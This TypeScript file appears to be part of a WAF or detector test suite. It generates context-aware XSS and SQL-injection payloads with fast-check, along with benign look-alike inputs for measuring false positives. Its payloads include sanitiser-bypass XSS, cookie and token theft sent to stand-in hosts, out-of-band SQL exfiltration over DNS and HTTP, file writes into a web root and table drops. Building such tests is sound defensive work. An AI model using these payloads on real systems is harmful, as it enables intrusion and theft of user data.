// Injection as a manual tester or a context-aware fuzzer writes it once it knows where the value
// lands: for XSS the reflection context (a quoted or bare attribute, a script string or template
// literal, a raw-text element, a comment, JSON inside a page) decides the breakout, then a vector
// the filters tend not to know (namespace confusion, newer handlers, script without parentheses,
// property lookups that spell the function, template expressions, dangling markup, CSS); for SQL
// the clause decides (a bare number, an ORDER BY / GROUP BY / LIMIT position, a JSON profile field
// stored for later), then inference with functions, out-of-band lookups, JSON operators, dollar
// quotes, comment and blank alternatives, exponent-glued keywords, backtick identifiers.
// xss.ts / xss-fuzz.ts and sqli-dialects.ts / sqli-tamper.ts hold the scanners' vocabulary; this
// file holds what a person adapts to the context.
import fc from "fast-check";
import type { Req } from "../engine.js";
import { rng, type R } from "./rng.js";

const pickR = <T>(r: R, xs: readonly T[]): T => xs[r(xs.length)];
const mix = (r: R, s: string) => s.replace(/[a-z]/gi, (c) => (r(3) === 0 ? c.toUpperCase() : c));
const word = (r: R, n = 5) => Array.from({ length: n }, () => String.fromCharCode(0x61 + r(26))).join("");
const n3 = (r: R) => 2 + r(97);
const host: [string, string] = ["host", "app.local"];

// ---------------------------------------------------------------- XSS

/** Script that needs no parentheses, or hides the name it calls. */
const JS: ((r: R) => string)[] = [
  () => "alert`1`", () => "throw onerror=alert,1", () => "onerror=alert;throw 1", () => "location=name", () => "import('//x.example/m.js')",
  () => "{onerror=prompt}throw 1", () => "valueOf=alert,window+''", () => "top.onerror=eval;throw'=alert\\x281\\x29'",
  (r) => `top['al'+'ert'](${n3(r)})`, () => "window[atob('YWxlcnQ=')](1)", () => "[].constructor.constructor('alert(1)')()",
  () => "''.sub.constructor('alert(1)')()", () => "Function`a${'alert(1)'}```", () => "self[String.fromCharCode(97,108,101,114,116)](1)",
  () => "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", () => "setTimeout('al'+'ert(1)')", () => "location.href='//x.example/?c='+document.cookie",
  () => "document.body.innerHTML=location.hash.slice(1)", () => "Reflect.apply(alert,null,[1])", () => "[1].map(confirm)",
  () => "eval(decodeURIComponent(location.hash.slice(1)))", () => "navigator.sendBeacon('//x.example',localStorage.token)",
];
const js = (r: R) => pickR(r, JS)(r);
const jsNoBlank = (r: R) => js(r).replace(/ /g, "/**/");

/** Handlers of elements and attributes that newer browsers added, with what makes them fire. */
const NEW_EVENTS: [string, string][] = [
  ["input popover id=p", "onbeforetoggle"], ["div popover", "ontoggle"], ["xx style=transition:color 1s tabindex=1", "ontransitionrun"],
  ["div style=overflow:auto;height:9px", "onscrollend"], ["xx style=animation:spin 1s infinite", "onanimationiteration"], ["a href=#", "onfocusout"],
  ["div contenteditable", "onbeforeinput"], ["div hidden=until-found id=x", "onbeforematch"], ["body", "onpagereveal"], ["div", "onpointerrawupdate"],
  ["div style=content-visibility:auto", "oncontentvisibilityautostatechange"], ["body", "onselectionchange"], ["body", "onsecuritypolicyviolation"],
  ["dialog open", "oncancel"], ["video src=x", "onstalled"], ["form", "onformdata"], ["body", "onpageswap"], ["input", "onselectstart"],
];

/** A vector in its own right, after the context's breakout. */
const VECTORS: ((r: R) => string)[] = [
  // namespace confusion: the sanitiser's tree and the browser's re-parse disagree
  (r) => `<${mix(r, "svg")}><${mix(r, "style")}><img src=x onerror=${jsNoBlank(r)}></style></svg>`,
  (r) => `<${mix(r, "math")}><mtext><table><mglyph><style><img src=x onerror=${jsNoBlank(r)}>`,
  (r) => `<form><${mix(r, "math")}><mtext></form><form><mglyph><style></math><img src onerror=${jsNoBlank(r)}>`,
  (r) => `<noscript><p title="</noscript><img src=x onerror=${jsNoBlank(r)}>">`,
  (r) => `<svg></p><style><a id="</style><img src=1 onerror=${jsNoBlank(r)}>">`,
  (r) => `<table><caption><svg><desc><select><img src=x onerror=${jsNoBlank(r)}>`,
  (r) => `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${jsNoBlank(r)}>`,
  // newer handlers
  (r) => { const [t, e] = pickR(r, NEW_EVENTS); return `<${mix(r, t)} ${mix(r, e)}=${jsNoBlank(r)}>`; },
  // odd separators between the tag name and the handler
  (r) => `<${mix(r, pickR(r, ["svg", "img src=x", "body", "details open"]))}${pickR(r, ["\f", "\t", "/", "\n", "/\f/"])}${mix(r, pickR(r, ["onload", "onerror", "ontoggle"]))}${pickR(r, ["=", "\f=", "=\t"])}${jsNoBlank(r)}>`,
  // entity-written scheme in a link
  (r) => `<${mix(r, pickR(r, ["a href", "iframe src", "form action", "object data"]))}="${pickR(r, ["javascript&colon;", "&#x6a;avascript:", "jav&#x09;ascript:", "java&NewLine;script&colon;", "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58;", "javas\tcript:"])}${js(r)}">x</a>`,
  // client-side template expressions (AngularJS, Vue) that reach Function
  (r) => pickR(r, [
    "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "{{_c.constructor('alert(1)')()}}",
    "{{$eval.constructor('alert(document.domain)')()}}", "{{[].pop.constructor('alert(1)')()}}", "{{toString().constructor.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}", "{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}",
  ]).replace("1", String(n3(r))),
  (r) => `<div ${pickR(r, ["v-html", "v-bind:innerHTML", ":innerHTML"])}="'<img src=x onerror=${jsNoBlank(r)}>'"></div>`,
  (r) => `<input autofocus ng-focus=$event.view.${pickR(r, ["alert", "confirm", "prompt"])}(${n3(r)})>`,
  // DOM clobbering aimed at a script loader, and dangling markup that carries the page away
  (r) => `<a id=${pickR(r, ["defaultConfig", "scriptSrc", "CONFIG"])}><a id=${pickR(r, ["defaultConfig", "scriptSrc", "CONFIG"])} name=${pickR(r, ["src", "url", "cdn"])} href=${pickR(r, ["//x.example/evil.js", "data:,alert(1)", "cid:alert(1)"])}>`,
  (r) => `<img src='//${word(r)}.example/?`,
  (r) => `<meta http-equiv=refresh content='0;url=//${word(r)}.example/?`,
  (r) => `<base href=//${word(r)}.example/>`,
  // CSS that loads from elsewhere or reads values out with attribute selectors
  (r) => `<style>@import'//${word(r)}.example/x.css';</style>`,
  (r) => `<style>input[name=csrf][value^=${word(r, 1)}]{background:url(//${word(r)}.example/?${word(r, 1)})}</style>`,
];

/** The reflection contexts: what a value must close before its own markup or script runs. */
const CONTEXTS: ((r: R) => string)[] = [
  // quoted attribute: close it and the tag, or stay inside the tag with a handler
  (r) => `${pickR(r, ["\"", "'"])}>${pickR(r, VECTORS)(r)}`,
  (r) => { const q = pickR(r, ["\"", "'"]); return `${q} ${mix(r, pickR(r, ["autofocus onfocus", "onmouseover", "onpointerenter", "style=animation-name:x onanimationstart"]))}=${q}${js(r)} x=${q}`; },
  // bare attribute value: a blank ends it
  (r) => `x${pickR(r, [" ", "\t", "\f", "\n"])}${mix(r, pickR(r, ["onmouseover", "autofocus onfocus", "onclick", "onpointerdown"]))}=${jsNoBlank(r)}${pickR(r, ["", " x=", "//"])}`,
  // inside a script string or a template literal
  (r) => `${pickR(r, ["';", "\";", "'-", "\"-", "\\';", "'+"])}${js(r)}${pickR(r, ["//", "-'", ";'", "+'", "-\""])}`,
  (r) => `\${${js(r)}}`,
  (r) => `\`;${js(r)};\``,
  (r) => `</${mix(r, "script")}>${pickR(r, VECTORS)(r)}`,
  // raw-text and escapable raw-text elements
  (r) => `</${mix(r, pickR(r, ["textarea", "title", "noscript", "style", "xmp", "iframe", "noembed"]))}>${pickR(r, VECTORS)(r)}`,
  // an HTML comment, closed either way
  (r) => `${pickR(r, ["-->", "--!>"])}${pickR(r, VECTORS)(r)}`,
  // JSON a page embeds in a script element
  (r) => `${pickR(r, ["\"}", "\"}]", "\"});"])}</${mix(r, "script")}>${pickR(r, VECTORS)(r)}`,
  (r) => `"};${js(r)};//`,
  // no context to close (a value placed in text)
  (r) => pickR(r, VECTORS)(r),
];

// ---------------------------------------------------------------- SQL

const col = (r: R) => pickR(r, ["name", "price", "id", "created_at", "email"]);
const tbl = (r: R) => pickR(r, ["users", "accounts", "admin", "orders"]);
const sel = (r: R) => pickR(r, ["database()", "user()", "version()", "current_user", "@@version", `(SELECT password FROM ${tbl(r)} LIMIT 1)`]);

/** Boolean and time inference written with functions, as a tester does it once a bare number is confirmed. */
const SQL_NUMERIC: ((r: R) => string)[] = [
  (r) => `${n3(r)} AND ${n3(r)}=${n3(r)}`, (r) => `${n3(r)} OR 2>1`, (r) => `IF(1=1,${n3(r)},0)`, (r) => `(SELECT ${n3(r)})`,
  (r) => `${n3(r)}-IF(1=1,0,1)`, (r) => `${n3(r)}*(SELECT 1)`, (r) => `${n3(r)}/(CASE WHEN 1=1 THEN 1 ELSE 0 END)`,
  (r) => `${n3(r)} AND ASCII(SUBSTRING(${sel(r)},${1 + r(9)},1))>${40 + r(80)}`, (r) => `${n3(r)} AND LENGTH(database())=${1 + r(20)}`,
  (r) => `${n3(r)} AND ORD(MID(${sel(r)},1,1))>${40 + r(80)}`, (r) => `${n3(r)} AND (SELECT COUNT(*) FROM ${tbl(r)})>0`,
  (r) => `${n3(r)} AND SUBSTR(${sel(r)},1,1)='${word(r, 1)}'`, (r) => `${n3(r)} AND 1=(SELECT 1 FROM ${tbl(r)} WHERE ${col(r)} LIKE '${word(r, 1)}%')`,
];
/** An ORDER BY, GROUP BY or LIMIT value: only an expression fits there. */
const SQL_CLAUSE: ((r: R) => string)[] = [
  (r) => `(CASE WHEN (${n3(r)}=${n3(r)}) THEN ${col(r)} ELSE ${col(r)} END)`, (r) => `IF(1=1,${col(r)},${col(r)})`,
  (r) => `(SELECT 1 FROM ${tbl(r)} WHERE 1=1)`, (r) => `${col(r)},(SELECT ${n3(r)})`, (r) => `${col(r)} ${pickR(r, ["ASC", "DESC"])},IF(ASCII(SUBSTR(user(),1,1))>${40 + r(80)},${col(r)},${col(r)})`,
  (r) => `(SELECT 1 UNION SELECT 2)`, (r) => `${col(r)} LIMIT 1`, (r) => `1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)`,
  (r) => `${1 + r(9)} INTO OUTFILE '/var/www/${word(r)}.php'`, (r) => `${col(r)} AND SLEEP(${1 + r(9)})`, (r) => `(SELECT ${col(r)} FROM ${tbl(r)} ORDER BY 1 LIMIT 1)`,
  (r) => `1,(SELECT IF(SUBSTR(${sel(r)},1,1)='${word(r, 1)}',1,EXP(710)))`,
];
/** Out-of-band: the data leaves through DNS or HTTP the database makes. */
const SQL_OOB: ((r: R) => string)[] = [
  (r) => `LOAD_FILE(CONCAT('\\\\\\\\',${sel(r)},'.${word(r)}.example\\\\a'))`,
  (r) => `UTL_HTTP.REQUEST('http://${word(r)}.example/'||(SELECT user FROM dual))`,
  (r) => `;EXEC master..xp_dirtree '\\\\${word(r)}.example\\a'--`,
  (r) => `HTTPURITYPE('http://${word(r)}.example/'||user).GETCLOB()`,
  (r) => `;SELECT dblink_connect('host=${word(r)}.example user=a')--`,
  (r) => `;COPY (SELECT '') TO PROGRAM 'nslookup ${word(r)}.example'--`,
  (r) => `DBMS_LDAP.INIT('${word(r)}.example',80)`,
  (r) => `;DECLARE @q varchar(99);SET @q='\\\\${word(r)}.example\\a';EXEC master.dbo.xp_fileexist @q--`,
];
/** JSON operators and functions in the WHERE the value lands in. */
const SQL_JSON: ((r: R) => string)[] = [
  (r) => ` AND JSON_EXTRACT('{"a":${n3(r)}}','$.a')=${n3(r)}`, (r) => ` OR data->>'role'='admin'`, () => ` OR tags @> '{admin}'`,
  (r) => ` AND JSON_LENGTH(${sel(r)})>0`, (r) => ` OR profile->'$.admin'=true`, () => ` OR attrs::jsonb ? 'admin'`, (r) => ` AND JSON_KEYS((SELECT CONVERT(${sel(r)} USING utf8)))`,
];
/** Dollar quotes, comment and blank alternatives, exponent-glued keywords, backtick identifiers. */
const SQL_SYNTAX: ((r: R) => string)[] = [
  (r) => { const t = word(r, 2); return `;SELECT $${t}$${word(r)}$${t}$||current_user--`; },
  () => `;SELECT $$a$$||pg_sleep(5)--`,
  (r) => `${n3(r)}/**/AND/**/${n3(r)}=${n3(r)}`, (r) => `${n3(r)}\u000bAND\u000b1=1`, (r) => `${n3(r)}--\nAND 1=1`, (r) => `${n3(r)}#\nOR 1=1`,
  (r) => `${n3(r)}e0UNION SELECT ${col(r)},2 FROM ${tbl(r)}`, (r) => `.${1 + r(9)}e1union select 1,2`, (r) => `${n3(r)}.e(union select 1)`, () => `\\Nunion select 1,2`,
  (r) => `${n3(r)} UNION SELECT \`${col(r)}\`,2 FROM \`${tbl(r)}\``, (r) => `' AND (SELECT \`${col(r)}\` FROM \`${tbl(r)}\` LIMIT 1)='${word(r, 1)}`,
  (r) => `${n3(r)}/*!50000UNION*//*!50000SELECT*/1,2`, (r) => `${n3(r)}%0aAND%0a1=1`.replace(/%0a/g, "\n"),
];
/** Stored now, run later by a query built from the profile: second-order payloads in JSON fields. */
const SQL_SECOND: ((r: R) => string)[] = [
  () => "admin'-- ", () => "admin'#", () => "' OR '1'='1", (r) => `x' UNION SELECT ${col(r)} FROM ${tbl(r)}-- `,
  () => "'); DROP TABLE users;--", (r) => `${word(r)}' AND 1=CONVERT(int,@@version)-- `, (r) => `${word(r)}'||(SELECT version())||'`,
];

export type InjectKind = "xss" | "sqli-numeric" | "sqli-clause" | "sqli-oob" | "sqli-json" | "sqli-syntax" | "sqli-second";
export const INJECT_KINDS: InjectKind[] = ["xss", "sqli-numeric", "sqli-clause", "sqli-oob", "sqli-json", "sqli-syntax", "sqli-second"];

/** Where the value goes; `clause` values go into the sort/group/limit parameter of a list API. */
type Place = "query" | "form" | "json" | "header" | "cookie";
const PLACES: Place[] = ["query", "form", "json", "header", "cookie"];

const enc = (s: string) => encodeURIComponent(s).replace(/[!'()*]/g, (c) => "%" + c.charCodeAt(0).toString(16).toUpperCase());

function placeValue(value: string, place: Place, name: string, r: R): Req {
  switch (place) {
    case "query": return { path: `/api/v2/list?${name}=${r(2) ? enc(value) : enc(value).replace(/%20/g, "+")}&page=2`, headers: [host] };
    case "form": return { method: "POST", path: "/account/update", headers: [host, ["content-type", "application/x-www-form-urlencoded"]], body: `csrf=9a8b&${name}=${enc(value)}` };
    case "json": return { method: "POST", path: "/api/v2/profile", headers: [host, ["content-type", "application/json"]], body: JSON.stringify({ profile: { [name]: value, locale: "en-GB" } }) };
    case "header": return { path: "/api/v2/me", headers: [host, [pickR(r, ["x-sort", "x-user-name", "referer", "user-agent"]), value.replace(/[\r\n]/g, " ")]] };
    case "cookie": return { path: "/dashboard", headers: [host, ["cookie", `sid=77ab; ${name}=${enc(value)}`]] };
  }
}

export interface ContextInjection { kind: InjectKind; value: string; req: Req }

const SQL_LISTS: Record<Exclude<InjectKind, "xss">, ((r: R) => string)[]> = {
  "sqli-numeric": SQL_NUMERIC, "sqli-clause": SQL_CLAUSE, "sqli-oob": SQL_OOB, "sqli-json": SQL_JSON, "sqli-syntax": SQL_SYNTAX, "sqli-second": SQL_SECOND,
};
const NAMES: Record<InjectKind, string[]> = {
  xss: ["q", "name", "bio", "redirect", "title", "callback", "comment"],
  "sqli-numeric": ["id", "page", "item", "uid"], "sqli-clause": ["sort", "order", "orderBy", "group", "limit"], "sqli-oob": ["id", "q", "user"],
  "sqli-json": ["id", "q", "filter"], "sqli-syntax": ["id", "cat", "q"], "sqli-second": ["display_name", "nickname", "username", "city"],
};

export function contextInjection(kinds: InjectKind[] = INJECT_KINDS): fc.Arbitrary<ContextInjection> {
  return fc.record({ seed: fc.nat(), k: fc.nat(kinds.length - 1), p: fc.nat(PLACES.length - 1) }).map(({ seed, k, p }) => {
    const r = rng(seed);
    const kind = kinds[k];
    let value: string;
    if (kind === "xss") value = pickR(r, CONTEXTS)(r);
    else {
      value = pickR(r, SQL_LISTS[kind])(r);
      // the WHERE-clause kinds close a quoted literal or follow a number
      if (kind === "sqli-json") value = pickR(r, ["'", "1", "')"]) + value + (value.endsWith("'") ? "" : pickR(r, ["-- -", "#", ""]));
      if (kind === "sqli-oob" && !value.startsWith(";")) value = pickR(r, ["1 AND 1=", "' AND 1=", "1 OR ", "'||"]) + value + (value.startsWith("'||") ? "" : "-- -");
      if (kind === "sqli-oob" && value.startsWith(";") && r(2)) value = pickR(r, ["1", "'"]) + value;
    }
    // second-order payloads are stored through a JSON profile update
    // (a header holds no line break: a payload whose comment a line break ends is sent elsewhere)
    const place = kind === "sqli-second" ? "json" : value.includes("\n") && PLACES[p] === "header" ? "form" : PLACES[p];
    return { kind, value, req: placeValue(value, place, pickR(r, NAMES[kind]), r) };
  });
}

// ---------------------------------------------------------------- look-alikes

/**
 * What real clients send with the same shapes, each a reason the detectors must not generalise
 * too far: list APIs take `sort=name,-created_at`, `order_by=price desc`, `limit=50`; scores and
 * formulas hold `1-0`, `2*3`, `x>1`; code questions name functions; CSS has url() and attribute
 * selectors; templates hold `{{ }}`; rich text holds markup without script.
 * Left out on purpose: literal SQL statements in a "how do I" question, `alert()` named with its
 * parentheses, and a Mongo operator document in a filter (`{"$gte":10}`): a WAF in front of a forum
 * or an API takes them for what they are (rules 2xxx, 3007, 12002 score them by design).
 */
export const LOOKALIKES: readonly [string, string][] = [
  ["sort", "name"], ["sort", "-created_at,name"], ["order", "price desc"], ["orderBy", "lastName ASC"], ["order_by", "updated_at DESC, id ASC"],
  ["group", "region"], ["limit", "50"], ["fields", "id,name,email"], ["$orderby", "Name desc"], ["$filter", "Price gt 20 and Status eq 'Open'"],
  ["filter", "status:active AND type:book"], ["sort", "score desc, name asc"], ["q", "final score 1-0 after extra time"], ["score", "1-0"],
  ["q", "3*4=12 and 12/4=3"], ["q", "if x > 5 and y < 3 then stop"], ["q", "price 10-20, rating >= 4"], ["q", "1e0 is 1 in scientific notation"],
  ["q", "how to use IF() in Excel with two conditions"], ["q", "CASE WHEN in pandas"], ["q", "what does [].constructor return in JavaScript"],
  ["q", "json_extract returns null for nested keys"], ["q", "postgres jsonb @> operator example"],
  ["css", ".card{background:url(/img/bg.png) no-repeat} a[href^=\"http\"]{color:#06c}"], ["css", "@import url(\"/css/base.css\");"],
  ["css", "input[type=checkbox]:checked + label{font-weight:bold}"], ["tpl", "Hello {{ user.firstName }}, you have {{ count }} messages"],
  ["bio", "<p>I like <b>SQL</b> &amp; <i>CSS</i></p>"], ["bio", "O'Reilly author, 2nd ed."], ["q", "the select element's onchange handler"],
  ["q", "table > caption, svg title"], ["version", "1.0-0"], ["q", "order 66 by the emperor"], ["q", "union of sets A and B"],
  ["comment", "<!-- draft --> see section 2"], ["q", "back`tick` quoting in markdown"], ["q", "load file from disk then concat strings"],
  ["q", "@media (max-width:600px){.nav{display:none}}"], ["q", "x -> y ->> z in SQL docs"],
  ["q", "$$ savings $$"], ["name", "Jean-Luc Picard #1"], ["q", "5' 11\" tall"], ["id", "0x1A2B"], ["q", "1.5e-3 mol"],
  ["q", "speed limit 50"], ["q", "credit limit 1,000"],
];

export const contextLookalike: fc.Arbitrary<{ value: string; req: Req }> = fc.record({ seed: fc.nat(), i: fc.nat(LOOKALIKES.length - 1), p: fc.nat(PLACES.length - 1) }).map(({ seed, i, p }) => {
  const r = rng(seed);
  const [name, value] = LOOKALIKES[i];
  return { value, req: placeValue(value, PLACES[p], name, r) };
});
